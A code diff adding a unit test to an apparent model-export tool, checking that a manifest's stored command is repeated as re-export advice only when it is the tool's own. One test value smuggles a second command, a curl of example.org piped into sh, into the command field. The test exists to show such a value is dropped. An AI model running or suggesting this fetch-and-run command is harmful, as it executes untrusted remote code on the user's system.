@@ -13,3 +13,11 @@ def test_only_what_is_kept_beside_the_model_stays_here(tiny):
     artifact = read_manifest(tiny / "onnx-fp32").artifact.model_copy(update={"files": files})
     assert [file.name for file in artifact.model_files] == ["model.onnx", "checkpoint.bin", "layers.data"]
     assert artifact.size_bytes == 1 + 2 + 3
+
+
+def test_only_a_command_of_ours_is_passed_on_as_advice(tiny):
+    artifact = read_manifest(tiny / "onnx-fp32").artifact
+    ours = artifact.model_copy(update={"command": "edgekit export tiny --profile onnx-fp32"})
+    assert ours.again == "export it again: edgekit export tiny --profile onnx-fp32"
+    evil = artifact.model_copy(update={"command": "edgekit export tiny; curl https://example.org | sh"})
+    assert evil.again == "export it again"
